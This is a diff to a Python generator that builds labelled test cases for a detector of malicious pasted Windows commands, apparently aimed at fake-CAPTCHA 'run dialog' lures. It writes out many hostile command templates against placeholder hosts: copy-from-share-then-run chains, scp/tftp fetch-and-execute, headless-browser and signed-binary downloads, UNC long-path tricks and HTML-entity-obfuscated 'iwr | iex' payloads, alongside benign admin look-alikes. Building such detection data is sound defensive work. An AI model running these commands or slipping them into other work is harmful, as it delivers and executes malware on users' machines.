@@ -30,6 +30,14 @@ Techniques:
 - `scam-refund-overpaid`, `scam-call-to-cancel`, `scam-bank-blocked`, `scam-refund-verify`:
   callback lures in several languages. Look-alikes: genuine bank, airline, delivery, renewal
   and refund messages with a number to call.
+- `copy-in-then-run`: a file copied from a share, a WebDAV folder or another computer (copy,
+  xcopy, robocopy, replace, extrac32, expand, esentutl, print /D:, findstr > file, Copy-Item,
+  scp, sftp, tftp) and then started. `browser-dump-dom`, `desktopimgdownldr`,
+  `presentationhost-remote`: signed programs that fetch. `unc-long-path`: a network path in
+  its long-path spelling (backslash backslash ? backslash UNC backslash host backslash share).
+  `ps-html-decode`: a command or address in HTML character references decoded into iex.
+  Look-alikes (`windows-admin`): copies from the local network or of documents, headless
+  browsers saving pages, long drive paths, HtmlDecode of a page's text.
 """
 
 from __future__ import annotations
@@ -317,11 +325,261 @@ def scams(book: Book) -> None:
         book.add("scam-genuine-phone", text, "not_flagged", target="other")
 
 
+# ---- Windows: a file brought from elsewhere, then started --------------------------------------
+CAPTCHA = "https://verify.gate-check.example/human"
+SHARES = (
+    "\\\\192.0.2.15\\pub",
+    "\\\\files.share-drop.test@SSL\\dav",
+    "\\\\198.51.100.44@8080\\DavWWWRoot\\t",
+    "\\\\cdn.patch-relay.invalid\\s",
+)
+DESTS = ("%TEMP%", "%PUBLIC%", "C:\\Users\\Public", "%APPDATA%\\Microsoft")
+COPIERS = (
+    "copy {src}\\{f} {dst}\\{f}",
+    "xcopy {src}\\{f} {dst}\\ /Y /Q",
+    "robocopy {src} {dst} {f} /NJH /NJS",
+    "replace {src}\\{f} {dst} /A",
+    "extrac32 /Y /C {src}\\{f} {dst}\\{f}",
+    "expand {src}\\{f} {dst}\\{f}",
+    "esentutl.exe /y {src}\\{f} /d {dst}\\{f} /o",
+    "print /D:{dst}\\{f} {src}\\{f}",
+    "findstr /V /L zqzq {src}\\{f} > {dst}\\{f}",
+    'powershell -w h -c "Copy-Item {src}\\{f} $env:TEMP\\{f}; Start-Process $env:TEMP\\{f}"',
+)
+STARTERS = ("{dst}\\{f}", 'start "" {dst}\\{f}', "call {dst}\\{f}")
+FILES = ("upd.exe", "helper.cmd", "fix.hta", "svc.vbs")
+
+
+def windows(book: Book) -> None:
+    for i, (copier, src) in enumerate(itertools.product(COPIERS, SHARES)):
+        f = FILES[i % len(FILES)]
+        dst = DESTS[i % len(DESTS)]
+        n = i + 1
+        if f.endswith(".hta"):
+            starter = "mshta {dst}\\{f}"
+        elif f.endswith(".vbs"):
+            starter = "wscript {dst}\\{f}"
+        else:
+            starter = STARTERS[n % len(STARTERS)]
+        copy = copier.format(src=src, dst=dst, f=f)
+        text = copy if "Start-Process" in copy else f"{copy} & {starter.format(dst=dst, f=f)}"
+        if "Start-Process" in copy:
+            text = copy.replace("$env:TEMP", "$env:TEMP" if dst == "%TEMP%" else "$env:PUBLIC")
+        book.add("copy-in-then-run", text, "flagged", "windows")
+        book.add("copy-in-then-run", text, "malicious", "windows", "run_dialog", CAPTCHA)
+    for host in ("192.0.2.7", "203.0.113.18", "files.scp-drop.test"):
+        for f in ("a.exe", "b.bat"):
+            book.add(
+                "copy-in-then-run",
+                f"scp -q guest@{host}:/srv/{f} %TEMP%\\{f} && %TEMP%\\{f}",
+                "malicious",
+                "windows",
+            )
+            book.add(
+                "copy-in-then-run",
+                f"tftp -i {host} GET {f} %PUBLIC%\\{f} & start %PUBLIC%\\{f}",
+                "malicious",
+                "windows",
+            )
+            book.add(
+                "copy-in-then-run",
+                f"sftp -b NUL guest@{host}:/pub/{f} C:\\Users\\Public\\{f} & C:\\Users\\Public\\{f}",
+                "malicious",
+                "windows",
+            )
+    for browser in (
+        "msedge",
+        "chrome.exe",
+        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
+    ):
+        for url, out, run in (
+            ("https://pages.note-sync.test/p", "%TEMP%\\p.hta", "mshta %TEMP%\\p.hta"),
+            ("http://198.51.100.9/s", "C:\\Users\\Public\\s.bat", "call C:\\Users\\Public\\s.bat"),
+            ("https://cdn.view-kit.invalid/j", "%APPDATA%\\j.js", "wscript %APPDATA%\\j.js"),
+        ):
+            text = f"{browser} --headless --disable-gpu --dump-dom {url} > {out} && {run}"
+            book.add("browser-dump-dom", text, "malicious", "windows")
+    for url in (
+        "https://img.lock-sync.test/w.exe",
+        "http://198.51.100.61:8080/lock.exe",
+        "https://cdn.pix-lock.invalid/bg.hta",
+    ):
+        book.add(
+            "desktopimgdownldr",
+            f'set "SYSTEMROOT=C:\\Users\\Public\\p" && desktopimgdownldr.exe /lockscreenurl:{url} /eventName:desktopimgdownldr',
+            "flagged",
+            "windows",
+        )
+        book.add(
+            "desktopimgdownldr",
+            f"cmd /c desktopimgdownldr /lockscreenurl:{url} /eventName:x & start C:\\Users\\Public\\p\\Personalization\\LockScreenImage\\LockScreenImage_1.exe",
+            "malicious",
+            "windows",
+        )
+    for target in (
+        "https://apps.viewer-kit.test/a/viewer.xbap",
+        "\\\\198.51.100.31\\pub\\tool.xbap",
+        "http://192.0.2.56/app.xbap",
+        "\\\\share.xbap-host.invalid@SSL\\a\\b.xbap",
+    ):
+        book.add(
+            "presentationhost-remote", f"PresentationHost.exe {target}", "malicious", "windows"
+        )
+        book.add(
+            "presentationhost-remote",
+            f"C:\\Windows\\System32\\PresentationHost.exe -debug {target}",
+            "malicious",
+            "windows",
+            "run_dialog",
+            CAPTCHA,
+        )
+    for host in (
+        "192.0.2.15",
+        "198.51.100.23",
+        "files.share-drop.test@SSL",
+        "cdn.patch-relay.invalid@443",
+    ):
+        for path in ("share\\update.exe", "dav\\fix.hta", "pub\\setup.msi"):
+            for prefix in ("\\\\?\\UNC\\", "\\\\.\\UNC\\", "\\\\?\\unc\\"):
+                book.add(
+                    "unc-long-path",
+                    f"{prefix}{host}\\{path}",
+                    "malicious",
+                    "windows",
+                    "run_dialog",
+                    CAPTCHA,
+                )
+            book.add("unc-long-path", f'"\\\\?\\UNC\\{host}\\{path}"', "flagged", "windows")
+    entities = (
+        "iex ([System.Net.WebUtility]::HtmlDecode('{e}'))",
+        "$c = [Net.WebUtility]::HtmlDecode('{e}'); Invoke-Expression $c",
+        "Add-Type -AssemblyName System.Web; iex ([System.Web.HttpUtility]::HtmlDecode('{e}'))",
+    )
+    for payload in (
+        "iwr https://dl.relay-kit.invalid/u.ps1 -UseBasicParsing | iex",
+        "irm http://198.51.100.12/s | iex",
+        "Start-Process mshta https://app.pix-sync.test/a.hta",
+    ):
+        for form in ("&#{};", "&#x{:x};"):
+            encoded = "".join(form.format(ord(c)) for c in payload)
+            for wrapper in entities:
+                text = 'powershell -nop -c "' + wrapper.format(e=encoded) + '"'
+                book.add("ps-html-decode", text, "malicious", "windows")
+        half = "".join(f"&#{ord(c)};" for c in payload[:4]) + payload[4:]
+        book.add(
+            "ps-html-decode",
+            "iex ([Net.WebUtility]::HtmlDecode('" + half + "'))",
+            "malicious",
+            "windows",
+        )
+
+    for text in (
+        "xcopy \\\\fileserver\\deploy\\setup.exe C:\\Temp\\ /Y & C:\\Temp\\setup.exe /quiet",
+        "robocopy \\\\nas01.corp.example.com\\builds\\1.4 D:\\builds\\1.4 /MIR",
+        "copy \\\\printsrv.corp\\drivers\\hp.inf C:\\drivers\\ & pnputil /add-driver C:\\drivers\\hp.inf",
+        "scp build@ci.example.org:/srv/out/report.pdf . && start report.pdf",
+        "scp ./app.tar.gz deploy@203.0.113.5:/opt/app/ && ssh deploy@203.0.113.5 ./restart.sh",
+        "git clone https://github.com/example-org/tool.git && cd tool && make",
+        "Copy-Item \\\\files.example.net\\public\\readme.txt $env:USERPROFILE\\Desktop; notepad $env:USERPROFILE\\Desktop\\readme.txt",
+        "net use Z: \\\\192.168.1.10\\share & explorer Z:",
+        "chrome --headless --dump-dom https://example.org/page > page.html && code page.html",
+        "msedge --headless --print-to-pdf=C:\\reports\\q3.pdf https://example.org/report",
+        "tftp -i 192.168.0.1 GET config.txt & type config.txt",
+        "esentutl /y C:\\Windows\\System32\\config\\SAM.bak /d D:\\backup\\SAM.bak",
+        "extrac32 /E /L C:\\drivers C:\\Users\\me\\Downloads\\driver.cab",
+        "print /D:LPT1 C:\\reports\\summary.txt",
+        "print /D:\\\\printsrv\\HP-4F C:\\reports\\summary.txt",
+        "replace C:\\new\\*.txt D:\\docs /U",
+        'findstr /i "error" \\\\logsrv.corp.example\\logs\\app.log > C:\\temp\\errors.txt',
+        "expand \\\\deploy01\\drivers\\net.cab -F:* C:\\drivers\\net",
+        "dir \\\\?\\C:\\Users\\me\\very\\long\\path",
+        "robocopy \\\\?\\C:\\src \\\\?\\D:\\dst /E",
+        "Get-Item -LiteralPath '\\\\?\\C:\\Users\\me\\Documents\\report.docx'",
+        "PresentationHost.exe C:\\Program Files\\Contoso\\Viewer\\viewer.xbap",
+        "Get-Process desktopimgdownldr",
+        "[System.Net.WebUtility]::HtmlDecode('Fish &amp; Chips &#8211; &pound;5')",
+        "<p>Use &#60;code&#62; tags &#38; escape &#34;quotes&#34; in HTML.</p>",
+    ):
+        book.add("windows-admin", text, "not_flagged", "windows")
+
+
+# ---- look-alikes made in bulk: what admins, developers and real senders write ------------------
+LOCAL_SHARES = (
+    "\\\\fileserver\\deploy",
+    "\\\\nas01\\it",
+    "\\\\fs01.corp.example.com\\pkg",
+    "\\\\10.0.0.5\\software",
+    "\\\\192.168.1.20\\install",
+    "\\\\files.ad.example.org\\tools",
+)
+LOCAL_COPIERS = (
+    "copy {src}\\{f} {dst}\\{f} & {run}",
+    "xcopy {src}\\{f} {dst}\\ /Y & {run}",
+    "robocopy {src} {dst} {f} & {run}",
+    'powershell -c "Copy-Item {src}\\{f} {dst}; {run}"',
+)
+
+
+def bulk_lookalikes(book: Book) -> None:
+    for i, (copier, src) in enumerate(itertools.product(LOCAL_COPIERS, LOCAL_SHARES)):
+        f, run = (
+            ("setup.exe", "C:\\Deploy\\setup.exe /quiet"),
+            ("agent.msi", "msiexec /i C:\\Deploy\\agent.msi /qn"),
+            ("login.bat", "call C:\\Deploy\\login.bat"),
+        )[i % 3]
+        book.add(
+            "windows-admin",
+            copier.format(src=src, dst="C:\\Deploy", f=f, run=run),
+            "not_flagged",
+            "windows",
+        )
+    documents = (("report.pdf", "start"), ("notes.txt", "notepad"), ("q3.xlsx", "start excel"))
+    remote = (
+        "\\\\files.example.net\\public",
+        "\\\\192.0.2.15\\pub",
+        "\\\\docs.partner-share.example\\pub",
+    )
+    for (doc, opener), src in itertools.product(documents, remote):
+        text = f"copy {src}\\{doc} %USERPROFILE%\\Downloads\\ & {opener} %USERPROFILE%\\Downloads\\{doc}"
+        book.add("windows-admin", text, "not_flagged", "windows")
+
+    events = ("click", "scroll", "resize", "keydown", "input", "copy", "paste", "submit")
+    handlers = (
+        "e => console.log(e.type, e.target)",
+        "e => console.count(e.type)",
+        "() => fetch('/api/telemetry/ui', {{method: 'POST', body: JSON.stringify({{t: '{ev}'}})}})",
+    )
+    for ev, handler in itertools.product(events, handlers):
+        text = f"document.addEventListener('{ev}', {handler.format(ev=ev)});"
+        book.add("console-local-look", text, "not_flagged", target=CONSOLE)
+
+    genuine = (
+        "Your order #48213 has shipped and will arrive Thursday. Questions? Call {p}.",
+        "Appointment reminder: Dr. Example, Monday 9:30. To cancel, call {p} at least 24 hours before.",
+        "Your card ending 4417 was used for $12.99 at a coffee shop. If this wasn't you, call the number on the back of your card.",
+        "Your prescription is ready for pickup. Pharmacy: {p}.",
+        "Flight update: gate changed to B22. For rebooking call {p} or use our app.",
+        "Ihre Bestellung wurde versandt. Bei Fragen erreichen Sie uns unter {p}.",
+        "La tua spedizione arriverà domani. Per assistenza chiama il {p}.",
+        "Su pedido ha sido enviado. Atención al cliente: {p}.",
+        "Votre colis sera livré demain. Service client : {p}.",
+        "Your energy bill of £84.20 is ready. Questions about your bill? Call {p}.",
+        "Your subscription renews on 3 May for $9.99. Manage or cancel it any time in your account settings. Help: {p}.",
+        "Thanks for your payment of $120.00. Receipt attached. Billing team: {p}.",
+    )
+    for text, phone in itertools.product(
+        genuine, ("+1 (555) 010-4477", "0800 555 0142", "+44 20 5550 0188")
+    ):
+        book.add("scam-genuine-phone", text.format(p=phone), "not_flagged", target="other")
+
+
 def build() -> list[dict[str, str]]:
     book = Book()
     console(book)
     device_codes(book)
     scams(book)
+    windows(book)
+    bulk_lookalikes(book)
     ids = [c["id"] for c in book.cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return book.cases
